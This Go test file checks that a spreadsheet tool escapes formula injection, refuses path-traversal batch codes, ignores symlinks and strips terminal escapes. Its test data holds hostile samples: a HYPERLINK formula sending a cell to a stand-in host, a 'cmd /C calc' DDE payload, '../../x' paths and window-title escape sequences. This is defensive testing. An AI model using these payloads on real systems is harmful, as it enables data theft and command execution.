package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"spatsheet/calc"
	"spatsheet/calc/example"
	"spatsheet/calc/functions"
	"spatsheet/protocols/library"
	"spatsheet/render/scratch"
	"spatsheet/render/workbook"
	"spatsheet/templates"
)

// formulaTexts begin with what OWASP's page on CSV injection lists (from memory): = + - @,
// tab, carriage return and line feed. One ends in what is a formula once it is split.
var formulaTexts = []string{`=HYPERLINK("http://198.51.100.1/?"&A1)`, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
	"\t=1+1", "\r=1+1", "\n=1+1", `x","=1+1`, "x\r\n=1+1"}

// hostileSheet is a small sheet with a note of one's own.
func hostileSheet(t *testing.T, note string) *calc.Sheet {
	t.Helper()
	site, err := calc.ReadSite("site.yaml", templates.Site)
	if err != nil {
		t.Fatal(err)
	}
	p, err := library.Load("gonad-check", functions.All())
	if err != nil {
		t.Fatal(err)
	}
	profile, err := library.LoadProfile("patella-aspera")
	if err != nil {
		t.Fatal(err)
	}
	text := string(examplePlan(p, profile, 1)) + "\nnote: " + strconv.Quote(note) + "\n"
	plan, err := calc.ReadPlan("plan.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	sheet, err := calc.Scale(p, site, plan)
	if err != nil {
		t.Fatal(err)
	}
	return sheet
}

// filledWith writes a sheet's workbook, filled in from the protocol's examples but for what
// is given.
func filledWith(t *testing.T, sheet *calc.Sheet, given example.Values) []byte {
	t.Helper()
	var blank bytes.Buffer
	if err := workbook.Write(&blank, sheet); err != nil {
		t.Fatal(err)
	}
	values, err := example.Fill(sheet, given)
	if err != nil {
		t.Fatal(err)
	}
	content, err := workbook.Fill(blank.Bytes(), values)
	if err != nil {
		t.Fatal(err)
	}
	return content
}

// hostileFolder is a season folder with one filled workbook.
func hostileFolder(t *testing.T, name string, content []byte) (folder string) {
	t.Helper()
	folder = filepath.Join(scratch.Folder(t), "season")
	if _, talk, code := inProcess(seasonCollected, "start", folder); code != exitGood {
		t.Fatal(talk)
	}
	if err := os.WriteFile(filepath.Join(folder, "filled", name), content, 0o644); err != nil {
		t.Fatal(err)
	}
	return folder
}

// TestNoTypedTextBecomesAFormula types formulas into every box for text, and into the
// plan's note, and looks at every cell of every file that season writes.
func TestNoTypedTextBecomesAFormula(t *testing.T) {
	sheet := hostileSheet(t, formulaTexts[0])
	given, typed := example.Values{}, 0
	for _, b := range sheet.Boxes() {
		if key := string(b.Key); strings.HasPrefix(key, "sign.") || b.Entry != nil && b.Entry.Kind == "text" {
			given[b.Key] = formulaTexts[typed%len(formulaTexts)]
			typed++
		}
	}
	if typed < 4 {
		t.Fatalf("only %d boxes take text", typed)
	}
	folder := hostileFolder(t, "=1+1.xlsx", filledWith(t, sheet, given))
	if _, talk, code := inProcess(seasonCollected, "collect", "-f", folder); code > exitFindings {
		t.Fatal(talk)
	}
	if _, talk, code := inProcess(seasonCollected, "season", "-f", folder); code > exitFindings {
		t.Fatal(talk)
	}
	harmed := 0
	for _, name := range files(t, folder, "season", "*.csv") {
		for _, cell := range cells(t, name) {
			if cell == "" {
				continue
			}
			if strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s: the cell %q begins like a formula", filepath.Base(name), cell)
				}
			}
			if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'@") {
				harmed++
			}
		}
	}
	if harmed == 0 {
		t.Error("no typed formula came through to the tables; the test tests nothing")
	}
	noFormulas(t, filepath.Join(folder, "season", "season.xlsx"))
}

func files(t *testing.T, parts ...string) []string {
	t.Helper()
	names, err := filepath.Glob(filepath.Join(parts...))
	if err != nil || len(names) == 0 {
		t.Fatalf("got files %v, error %v", names, err)
	}
	return names
}

func cells(t *testing.T, name string) []string {
	t.Helper()
	content, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var all []string
	for _, row := range rows {
		all = append(all, row...)
	}
	return all
}

// noFormulas looks into the sheets of a workbook for formula elements.
func noFormulas(t *testing.T, name string) {
	t.Helper()
	archive, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	for _, part := range archive.File {
		if !strings.HasPrefix(part.Name, "xl/worksheets/") || !strings.HasSuffix(part.Name, ".xml") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(text, []byte("<f>")) || bytes.Contains(text, []byte("<f ")) {
			t.Errorf("%s holds a formula", part.Name)
		}
	}
}

// TestBatchCodesAreNoPaths plans under codes that would lead out of the folder, or mean
// something else to a file system: refused by plan, by print, and when a workbook carries
// them. Nothing is written.
func TestBatchCodesAreNoPaths(t *testing.T) {
	for _, code := range []string{
		"../../x", "/etc/x", `..\..\x`, `C:\x`, "C:X", "A/B", "X\x00Y", "KS-26.", "KS-26 ", ".KS", "KS-26-01.pdf", "CON", "NUL", "NUL.", "COM1", "LPT9", "AUX",
		"KS:26", "KS*26", "KS\n26", "-f", "--replace", "KS--26", "ks-26", "ＫＳ-26", "КS-26", "KS\u202e26", strings.Repeat("A", 300), "",
	} {
		t.Run(fmt.Sprintf("%.20q", code), func(t *testing.T) {
			sheet := hostileSheet(t, "a plan with a path in it")
			folder := hostileFolder(t, "good.xlsx", filledWith(t, sheet, nil))
			before := tree(t, filepath.Dir(folder))
			text := []byte(strings.Replace(string(sheet.Plan.Text), "EX-1", strconv.Quote(code), 1))
			plan := filepath.Join(t.TempDir(), "plan.yaml")
			if err := os.WriteFile(plan, text, 0o644); err != nil {
				t.Fatal(err)
			}
			if out, _, got := inProcess(seasonCollected, "print", "-f", folder, plan); got != exitInput {
				t.Errorf("print: exit code %d, want %d: %s", got, exitInput, out)
			}
			forged := *sheet
			forged.Plan.Batch, forged.Plan.Text = code, text
			var content bytes.Buffer
			if err := workbook.Write(&content, &forged); err == nil {
				bad := filepath.Join(t.TempDir(), "forged.xlsx")
				if err := os.WriteFile(bad, content.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
				if out, _, got := inProcess(seasonCollected, "collect", "-f", folder, bad); got != exitInput {
					t.Errorf("collect: exit code %d, want %d: %s", got, exitInput, out)
				}
			}
			if after := tree(t, filepath.Dir(folder)); after != before {
				t.Errorf("files were made:\n%s\nbefore:\n%s", after, before)
			}
		})
	}
}

// tree lists every file under a folder with its size.
func tree(t *testing.T, folder string) string {
	t.Helper()
	var list strings.Builder
	err := filepath.WalkDir(folder, func(name string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := e.Info()
		if err == nil && !e.IsDir() {
			fmt.Fprintln(&list, name, info.Size(), info.Mode())
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return list.String()
}

// TestManifestBatchIsNotBelieved forges the batch that stands in the manifest beside a good
// plan: what counts is the plan.
func TestManifestBatchIsNotBelieved(t *testing.T) {
	sheet := hostileSheet(t, "a forged manifest")
	forged := *sheet
	forged.Plan.Batch = "../../x"
	folder := hostileFolder(t, "forged.xlsx", filledWith(t, &forged, nil))
	out, talk, code := inProcess(seasonCollected, "collect", "-f", folder)
	if code == exitGood && !strings.HasPrefix(out, "EX-1: added") || code != exitGood && code != exitInput {
		t.Errorf("exit code %d: %s%s", code, out, talk)
	}
	if said := out + talk; strings.Contains(said, "../../x: ") {
		t.Errorf("the manifest's batch was taken: %s", said)
	}
	if names, _ := filepath.Glob(filepath.Join(filepath.Dir(filepath.Dir(folder)), "x*")); len(names) > 0 {
		t.Errorf("files were made: %v", names)
	}
}

// TestLinksAreNotWrittenThrough puts links to a file outside where season and print write:
// the link is replaced, the file outside stays as it is.
func TestLinksAreNotWrittenThrough(t *testing.T) {
	sheet := hostileSheet(t, "links")
	folder := hostileFolder(t, "good.xlsx", filledWith(t, sheet, nil))
	outside := filepath.Join(t.TempDir(), "outside.txt")
	if err := os.WriteFile(outside, []byte("not yours"), 0o644); err != nil {
		t.Fatal(err)
	}
	plan := filepath.Join(folder, "plans", "EX-1.yaml")
	if err := os.WriteFile(plan, sheet.Plan.Text, 0o644); err != nil {
		t.Fatal(err)
	}
	links := []string{"sheets/EX-1.pdf", "workbooks/EX-1.xlsx", "season/season.xlsx", "season/readings.csv", "season/report.html"}
	for _, link := range links {
		name := filepath.Join(folder, filepath.FromSlash(link))
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, name); err != nil {
			t.Skip("no links here:", err)
		}
	}
	for _, line := range [][]string{{"print", "-f", folder, "EX-1", "--replace"}, {"collect", "-f", folder}, {"season", "-f", folder, "--replace"}} {
		if _, talk, code := inProcess(seasonCollected, line...); code != exitGood {
			t.Errorf("%v: exit code %d: %s", line, code, talk)
		}
	}
	if content, err := os.ReadFile(outside); err != nil || string(content) != "not yours" {
		t.Errorf("the file outside now says %.20q, error %v", content, err)
	}
	for _, link := range links {
		info, err := os.Lstat(filepath.Join(folder, filepath.FromSlash(link)))
		if err != nil || !info.Mode().IsRegular() {
			t.Errorf("%s is no file of its own: %v", link, err)
		}
	}
}

// TestNothingTypedReachesTheTerminal types escape sequences, which would move the cursor or
// set the window's title where findings are printed.
func TestNothingTypedReachesTheTerminal(t *testing.T) {
	sheet := hostileSheet(t, "escape")
	given := example.Values{}
	for _, b := range sheet.Boxes() {
		if b.Entry != nil && b.Entry.Kind == "number" {
			given[b.Key] = "\x1b]0;owned\x07\x1b[2J\u202e12\u009b3"
		}
	}
	content := filledWith(t, sheet, given)
	folder := hostileFolder(t, "escape.xlsx", content)
	for _, line := range [][]string{{"check", filepath.Join(folder, "filled", "escape.xlsx")},
		{"collect", "-f", folder}, {"season", "-f", folder}, {"season", "-f", folder, "--verify"}} {
		out, talk, _ := inProcess(seasonCollected, line...)
		if said := out + talk; strings.ContainsAny(said, "\x1b\x07\u009b\u202e") {
			t.Errorf("%v: a control character reaches the terminal: %.300q", line[0], said)
		}
	}
}
